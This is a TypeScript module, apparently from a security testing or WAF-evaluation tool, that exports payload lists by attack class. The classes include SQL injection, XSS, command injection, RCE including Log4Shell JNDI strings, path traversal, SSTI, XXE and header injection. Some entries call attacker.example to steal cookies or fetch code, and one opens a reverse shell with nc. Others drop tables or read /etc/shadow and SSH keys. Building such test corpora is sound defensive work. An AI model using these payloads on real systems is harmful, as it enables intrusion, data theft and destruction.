import { apiPayloadSets } from './api-payloads.ts';
import type { PayloadSet } from './payload-set.ts';

const publicFacing = ['T1190'];

const sqlInjection: PayloadSet = {
  severity: 'high',
  techniques: publicFacing,
  payloads: [
    "' OR '1'='1",
    "' OR '1'='1' -- ",
    "' OR 1=1#",
    "admin'--",
    "1' AND 1=1 UNION SELECT NULL,NULL-- -",
    "' UNION SELECT username, password FROM users--",
    '1 UNION ALL SELECT 1,2,3,version()',
    '1; DROP TABLE users',
    "1' AND SLEEP(5)-- -",
    '1 AND (SELECT COUNT(*) FROM information_schema.tables)>0',
    "' AND extractvalue(1,concat(0x7e,database()))-- -",
    "1' ORDER BY 10-- -",
    "'; EXEC xp_cmdshell('dir')--",
    "1; WAITFOR DELAY '0:0:5'--",
    "' AND BENCHMARK(1000000,MD5(1))#",
    "1' OR pg_sleep(5)--",
    "-1' UNION SELECT table_name FROM information_schema.tables--",
    "1' HAVING 1=1--",
    "' || (SELECT password FROM users WHERE id=1) || '",
    "1' INTO OUTFILE '/tmp/out.txt'-- -",
  ],
};

const xss: PayloadSet = {
  severity: 'medium',
  techniques: ['T1189'],
  payloads: [
    '<script>alert(1)</script>',
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    '<svg onload=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<object data="javascript:alert(1)">',
    '<script src=//attacker.example/x.js></script>',
    "<img src=x onerror='fetch(`//attacker.example/`+document.cookie)'>",
    '<marquee onstart=alert(1)>',
    '"onmouseover="alert(1)',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<style>@import "javascript:alert(1)";</style>',
  ],
};

const commandInjection: PayloadSet = {
  severity: 'critical',
  techniques: ['T1059.004'],
  payloads: [
    '; cat /etc/passwd',
    '| cat /etc/passwd',
    '&& cat /etc/shadow',
    '`id`',
    '$(cat /etc/passwd)',
    '; ls -la /',
    '|| ping -c 3 192.0.2.1',
    '; uname -a',
    '; wget http://attacker.example/x -O /tmp/x',
    '& type C:\\Windows\\win.ini',
    '| dir C:\\',
    '; curl http://attacker.example/$(whoami)',
    ';/bin/bash -c "cat /etc/hosts"',
    '; nc -e /bin/sh 192.0.2.1 4444',
    "; python3 -c 'import os'",
    '; powershell -Command Get-Process',
  ],
};

const rce: PayloadSet = {
  severity: 'critical',
  techniques: publicFacing,
  payloads: [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
    '${jndi:ldap://attacker.example/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
    '${${lower:j}ndi:ldap://attacker.example/a}',
    '() { :;}; /bin/bash -c "id"',
    '<?php system($_GET["cmd"]); ?>',
    "<?php eval(base64_decode('cGhwaW5mbygpOw==')); ?>",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    "T(java.lang.Runtime).getRuntime().exec('id')",
    'java.lang.Runtime.getRuntime().exec("id")',
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    'O:8:"stdClass":1:{s:3:"cmd";s:2:"id";}',
    "eval(compile('import os','x','exec'))",
    "require('child_process').exec('id')",
    '<%= `id` %>',
  ],
};

const pathTraversal: PayloadSet = {
  severity: 'high',
  techniques: ['T1083'],
  payloads: [
    '../../../../etc/passwd',
    '../../../../../../etc/shadow',
    '..\\..\\..\\..\\windows\\win.ini',
    '....//....//....//etc/passwd',
    '/var/www/../../etc/passwd',
    '../../../boot.ini',
    '../../../../proc/self/environ',
    '..%2f..%2f..%2fetc%2fpasswd',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '../../WEB-INF/web.xml',
    '../.git/config',
    '../../../../etc/passwd%00.jpg',
  ],
};

const lfi: PayloadSet = {
  severity: 'high',
  techniques: publicFacing,
  payloads: [
    '/etc/passwd',
    '/proc/self/environ',
    'file:///etc/passwd',
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'expect://id',
    'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '/etc/apache2/apache2.conf',
    '/var/log/apache2/access.log',
    '/root/.ssh/id_rsa',
    '/home/user/.bash_history',
  ],
};

const ssti: PayloadSet = {
  severity: 'high',
  techniques: publicFacing,
  payloads: [
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "<%= system('id') %>",
    "{{['id']|filter('system')}}",
    '{php}echo `id`;{/php}',
  ],
};

const ssi: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: [
    '<!--#exec cmd="ls" -->',
    '<!--#include virtual="/etc/passwd" -->',
    '<!--#exec cmd="cat /etc/passwd" -->',
    '<!--#echo var="DATE_LOCAL" -->',
  ],
};

const ldapInjection: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: [
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(|(password=*))',
    'x)(|(cn=*))',
    '(&(objectClass=*)(uid=admin))',
    '*)(objectClass=*',
  ],
};

const nosqlInjection: PayloadSet = {
  severity: 'high',
  techniques: publicFacing,
  payloads: [
    '{"$gt":""}',
    '{"$ne":null}',
    "'; return true; var x='",
    '{"$where":"sleep(1000)"}',
    '{"$regex":".*"}',
    "' || 'a'=='a",
    '[$ne]=1',
    '{"$or":[{},{"a":"a"}]}',
  ],
};

const crlf: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: [
    'x\r\nSet-Cookie: session=attacker',
    'x\r\nLocation: http://attacker.example/',
    'x\r\n\r\n<script>alert(1)</script>',
    'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
    'x\nContent-Type: text/html',
  ],
};

const xxe: PayloadSet = {
  severity: 'high',
  techniques: publicFacing,
  payloads: [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd">%x;]><r/>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
  ],
};

const xmlInjection: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: [
    '<user><name>x</name><role>admin</role></user><!--',
    ']]><script>alert(1)</script><![CDATA[',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    "' or count(parent::*[position()=1])=0 or 'a'='b",
  ],
};

const mailInjection: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: [
    'user@app.test\r\nBcc: victim@mail.example',
    'user@app.test\nCc: victim@mail.example\nSubject: x',
    'x\r\nRCPT TO:<victim@mail.example>\r\nDATA',
    'x%0ABcc:victim@mail.example',
  ],
};

const userAgent: PayloadSet = {
  severity: 'low',
  techniques: ['T1595.002'],
  payloads: [
    'sqlmap/1.7 (https://sqlmap.org)',
    'Nikto/2.5.0',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'masscan/1.3',
    'Nmap Scripting Engine',
    'gobuster/3.6',
    'WPScan v3.8',
    'Acunetix-Product',
    'nessus',
    'dirbuster',
  ],
};

const protocolAnomaly: PayloadSet = {
  severity: 'medium',
  techniques: publicFacing,
  payloads: ['%00', '%u0027%u0020OR', '%zz%xx', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '\u0000\u0001\u0002\u0003'],
};

/** By the name of the module. `custom`, `rest` and the like have none of their own: they take those of others or of dictionaries. */
export const payloadSets: Readonly<Record<string, PayloadSet>> = {
  'sql-injection': sqlInjection,
  xss,
  rce,
  'command-injection': commandInjection,
  'path-traversal': pathTraversal,
  lfi,
  'ldap-injection': ldapInjection,
  'nosql-injection': nosqlInjection,
  crlf,
  ssti,
  ssi,
  xxe,
  'xml-injection': xmlInjection,
  'mail-injection': mailInjection,
  'user-agent': userAgent,
  'protocol-anomaly': protocolAnomaly,
  ...apiPayloadSets,
  rest: mixed(),
  graphql: mixed(),
  soap: mixed(),
  grpc: mixed(),
  'large-body': mixed(),
  custom: { severity: 'medium', techniques: publicFacing, payloads: [] },
};

/** A few of the clearest, for modules that differ by where they are put. */
function mixed(): PayloadSet {
  const sets = [sqlInjection, xss, commandInjection, pathTraversal];
  return { severity: 'high', techniques: publicFacing, payloads: sets.flatMap(({ payloads }) => payloads.slice(0, 3)) };
}
